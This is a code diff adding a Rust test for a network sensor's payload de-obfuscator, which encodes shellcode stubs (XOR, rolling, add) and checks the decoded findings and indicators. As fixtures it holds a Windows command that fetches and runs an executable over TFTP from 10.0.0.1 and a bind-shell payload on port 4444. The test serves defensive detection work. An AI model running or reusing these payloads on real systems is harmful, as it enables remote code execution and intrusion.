@@ -582,3 +582,69 @@ fn more_decoder_forms() {
         );
     }
 }
+
+/// The de-obfuscation record a sensor event carries
+/// (`botscope_sensor::deobf::payload_record`): for each stub the decoder
+/// registry's `shellcode_stub` finding with the stub's method, key,
+/// offset and stretch, the body's text revealed, and what it asks for.
+#[test]
+fn payload_record_names_decoder_key_offset_and_what_it_revealed() {
+    if !have_nasm() {
+        return;
+    }
+    use botscope_sensor::deobf::payload_record;
+    let hex = |k: &[u8]| k.iter().map(|b| format!("{b:02x}")).collect::<String>();
+    let mut rng = Rng::from_clock();
+    for stub in [Stub::Xor8, Stub::Xor32, Stub::Rolling, Stub::Add8] {
+        for body in [Body::Tftp, Body::Bind(4444)] {
+            let e = encode(stub, body.assemble(), &mut rng);
+            let mut sc = e.stub.clone();
+            sc.extend_from_slice(&e.body);
+            let payload = exploit(&sc, false);
+            let at = position(&payload, &sc);
+            let rec = payload_record(&payload);
+            assert_eq!(
+                rec.ran,
+                [
+                    "shellcode_stub",
+                    "shellcode_xor_guess",
+                    "xor_strings",
+                    "base64",
+                    "hex",
+                    "rot13",
+                    "stack_strings",
+                    "utf16le"
+                ]
+            );
+            let what = format!("{stub:?} {body:?} key {:02x?}: {rec:#?}", e.key);
+            assert_eq!(rec.matched_decoders(), ["shellcode_stub"], "{what}");
+            let f = &rec.findings[0];
+            assert_eq!(f.method, e.decoder.name(), "{what}");
+            assert_eq!(f.key.as_deref(), Some(hex(&e.key).as_str()), "{what}");
+            assert_eq!(
+                (f.region.as_str(), f.offset, f.length),
+                ("payload", at, sc.len())
+            );
+            match body {
+                Body::Tftp => {
+                    assert!(
+                        f.revealed
+                            .contains(&"cmd /c tftp -i 10.0.0.1 GET a.exe&start a.exe".into()),
+                        "{what}"
+                    );
+                    assert_eq!(f.iocs, ["tftp://10.0.0.1/a.exe"], "{what}");
+                }
+                _ => assert_eq!(f.iocs, ["bind_shell:4444"], "{what}"),
+            }
+        }
+    }
+    // No stub the interpreter knows: the key is guessed from the text.
+    let k = rng.byte(&[0]);
+    let mut sc = vec![0xcc; 24];
+    sc.extend(Body::Tftp.assemble().iter().map(|b| b ^ k));
+    let rec = payload_record(&exploit(&sc, true));
+    assert_eq!(rec.matched_decoders(), ["shellcode_xor_guess"], "{rec:#?}");
+    assert_eq!(rec.findings[0].method, "xor8_guessed");
+    assert_eq!(rec.findings[0].key.as_deref(), Some(hex(&[k]).as_str()));
+    assert_eq!(rec.findings[0].iocs, ["tftp://10.0.0.1/a.exe"]);
+}
